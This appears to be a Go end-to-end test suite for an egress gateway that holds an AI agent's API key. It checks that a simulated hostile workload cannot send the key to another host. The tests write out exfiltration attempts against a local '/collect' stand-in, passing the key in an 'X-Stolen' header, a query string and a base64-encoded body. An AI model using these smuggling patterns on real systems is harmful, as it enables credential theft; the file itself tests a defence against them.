//go:build docker

package e2e

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mcpsidecar/mcpsidecar/internal/verdict"
)

// TestHeldValueChain (issue 27) plays the whole chain against the gateway
// binary: a credential host that echoes request headers hands the
// injected key back through the credential listener (scrubbed: the
// workload reads none of it), and a workload that learned the key anyway
// sends it through the proxy port to another allowed host in a header, the
// query and the body (each refused; the other host receives none). The
// record says so, and the verdict's check fails naming the hosts; a
// gateway that holds another value lets the same bytes through (the
// negative control).
func TestHeldValueChain(t *testing.T) {
	bin := os.Getenv("MCPSIDECAR_BIN")
	if bin == "" {
		t.Fatal("MCPSIDECAR_BIN is not set: `make e2e` builds the binary and sets it")
	}
	const key = "sk-held-e2e-0123456789abcdef0123456789"
	echo := serveLoopback(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Echo-Auth", r.Header.Get("Authorization"))
		fmt.Fprintf(w, "you sent: %s\n", r.Header.Get("Authorization"))
	}))
	var mu sync.Mutex
	var other []string
	otherPort := serveLoopback(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		other = append(other, r.RequestURI+" "+fmt.Sprint(r.Header)+" "+string(b))
		mu.Unlock()
	}))
	for _, held := range []bool{true, false} {
		t.Run(fmt.Sprintf("held=%v", held), func(t *testing.T) {
			heldKey := key
			if !held {
				heldKey = "sk-another-held-value-0000000000"
			}
			mu.Lock()
			other = nil
			mu.Unlock()
			gw := startHostGateway(t, bin, heldKey, echo, echo, otherPort)
			if held {
				checkEchoScrubbed(t, gw, echo, heldKey)
			}
			proxy, _ := url.Parse("http://" + gw.listen)
			client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxy)}}
			target := fmt.Sprintf("http://127.0.0.1:%d/collect", otherPort)
			for _, r := range []*http.Request{
				mustRequest(t, http.MethodGet, target, "", "X-Stolen", key),
				mustRequest(t, http.MethodGet, target+"?k="+url.QueryEscape(key), "", "", ""),
				mustRequest(t, http.MethodPost, target, base64.StdEncoding.EncodeToString([]byte("Authorization: Bearer "+key)), "", ""),
			} {
				resp, err := client.Do(r)
				if err != nil {
					t.Fatal(err)
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				if held && resp.StatusCode != http.StatusForbidden && resp.StatusCode != http.StatusBadGateway {
					t.Errorf("%s %s carrying the held key: status %d, want refused", r.Method, r.URL, resp.StatusCode)
				}
			}
			gw.stop(t)
			mu.Lock()
			got := append([]string(nil), other...)
			mu.Unlock()
			c := verdict.HeldValues(gw.dir)
			if !held {
				if !c.OK || len(got) != 3 {
					t.Errorf("value not held: check %+v, the other host received %d requests; want ok and 3", c, len(got))
				}
				return
			}
			for _, g := range got {
				if strings.Contains(g, key) || strings.Contains(g, base64.StdEncoding.EncodeToString([]byte("Bearer " + key))[4:20]) {
					t.Errorf("the other host received the key: %.200q", g)
				}
			}
			if c.OK || !strings.Contains(c.Detail, fmt.Sprintf("127.0.0.1:%d reflected the value of HELD_KEY", echo)) ||
				!strings.Contains(c.Detail, fmt.Sprintf("a request to 127.0.0.1:%d carried the value of HELD_KEY", otherPort)) {
				t.Errorf("verdict check %+v, want it failed naming both hosts", c)
			}
			if b, _ := os.ReadFile(filepath.Join(gw.dir, "egress-decisions.jsonl")); strings.Contains(string(b), key) {
				t.Error("the decision log holds the key")
			}
			t.Logf("%s: %s", c.Name, c.Detail)
		})
	}
}

// checkEchoScrubbed asks the echoing credential host for an answer through
// the credential listener: the key it echoes must not reach the client.
func checkEchoScrubbed(t *testing.T, gw *hostGateway, echo int, key string) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, fmt.Sprintf("http://%s/127.0.0.1:%d/v1/echo", gw.cred, echo), nil)
	req.Header.Set("Authorization", "Bearer "+gw.placeholder)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if strings.Contains(string(body), key) || strings.Contains(resp.Header.Get("X-Echo-Auth"), key) || !strings.Contains(string(body), "Bearer ***") {
		t.Errorf("the echoed answer: %q, header %q; want the key scrubbed", body, resp.Header.Get("X-Echo-Auth"))
	}
}

func serveLoopback(t *testing.T, h http.Handler) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: h}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return ln.Addr().(*net.TCPAddr).Port
}

func mustRequest(t *testing.T, method, target, body, header, value string) *http.Request {
	t.Helper()
	r, err := http.NewRequest(method, target, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if header != "" {
		r.Header.Set(header, value)
	}
	return r
}

// TestHeldValueChainInRun is the chain inside a real run (issue 27): a
// hostile stand-in for the workload, on the run's internal network, asks
// the model host's echo endpoint for its answer through the credential
// listener (the real key the gateway injects comes back scrubbed: the
// stand-in reads none of it), then sends the key it "learned" anyway
// through the proxy port to the Learn host, in a header (refused before
// any dial). The run's verdict fails with the held-value check, naming
// both hosts; no file of the run holds the key.
func TestHeldValueChainInRun(t *testing.T) {
	NeedDocker(t)
	s := agPrepare(t)
	r := crStart(t, s, "task", "--x-workload-cmd", "x-sleep,25s")
	placeholder := crEnv(t, crInspect(t, r.id, "agent", 2*time.Minute))["OPENAI_API_KEY"]
	crWaitRunning(t, r.id, "agent", 2*time.Minute)
	if placeholder == "" {
		t.Fatal("the agent holds no placeholder")
	}
	send := func(args ...string) string { return r.sendFromInside(t, s, args...) }
	echoed := send("--url", "http://egress-gateway:3129/"+agModelHost+"/v1/echo", "--header", "Authorization: Bearer "+placeholder)
	if strings.Contains(echoed, s.key) || !strings.Contains(echoed, "Bearer ***") {
		t.Errorf("the echoed answer the stand-in read: %s; want the key scrubbed", echoed)
	}
	carried := send("--url", "http://"+agLearnHost+"/collect", "--proxy", "http://egress-gateway:3128", "--header", "X-Stolen: "+s.key)
	if !strings.Contains(carried, `"status":403`) {
		t.Errorf("sending the key through the proxy: %s; want 403", carried)
	}
	r.wait(t)
	runDir := agOnlyRunDir(t, r.runsDir)
	var md struct {
		Verdict struct {
			OK     bool `json:"ok"`
			Checks []struct {
				Name, Detail string
				OK           bool
			} `json:"checks"`
		} `json:"verdict"`
	}
	if err := json.Unmarshal([]byte(agRead(t, filepath.Join(runDir, "run-metadata.json"))), &md); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, c := range md.Verdict.Checks {
		if c.Name == verdict.CheckHeldValues {
			found = true
			if c.OK || !strings.Contains(c.Detail, agModelHost+":80 reflected") || !strings.Contains(c.Detail, "a request to "+agLearnHost+":80 carried") {
				t.Errorf("check %q: ok %v, %s; want it failed naming both hosts", c.Name, c.OK, c.Detail)
			}
		}
	}
	if !found || md.Verdict.OK {
		t.Errorf("verdict ok %v, held-value check present %v", md.Verdict.OK, found)
	}
	agCheckNoSecret(t, runDir, s.key)
	agCheckNothingLeft(t, r.id)
}
